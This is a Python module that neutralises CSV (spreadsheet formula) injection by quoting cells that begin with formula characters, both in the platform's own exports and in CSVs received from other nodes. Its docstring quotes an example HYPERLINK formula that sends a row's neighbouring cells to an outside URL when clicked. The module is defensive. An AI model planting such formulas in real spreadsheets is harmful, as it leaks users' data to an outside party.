"""Cells a spreadsheet would run as a formula, written as text (CSV injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken
by Excel and LibreOffice as a formula (``=HYPERLINK("https://…?"&A2, "详情")`` sends the
row's neighbours wherever it points when clicked). One rule for every CSV the platform
writes — the services' exports and the ``shegong`` command's own files, whose cells a
node it was pointed at named (round 13) — : such a cell gets a leading ``'``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """A cell Excel will show as text: a leading =, +, -, @, tab or CR gets a quote."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """Rows as CSV (``\\n`` line ends): text through ``safe_cell``, a number as it is (a
    negative figure stays a number), None empty."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerows(
        [safe_cell(v) if isinstance(v, str) else "" if v is None else v for v in row]
        for row in rows
    )
    return buf.getvalue()


def safe_csv(text: str) -> str:
    """A CSV another program wrote (a node's export) with no cell that runs as a formula:
    as it came when none would (the services' own exports), else written again with those
    cells quoted (its BOM and line ends kept)."""
    bom = "\ufeff" if text.startswith("\ufeff") else ""
    rows = list(csv.reader(io.StringIO(text.removeprefix(bom), newline="")))
    if not any(cell.startswith(FORMULA_START) for row in rows for cell in row):
        return text
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n" if "\r\n" in text else "\n")
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return bom + buf.getvalue()
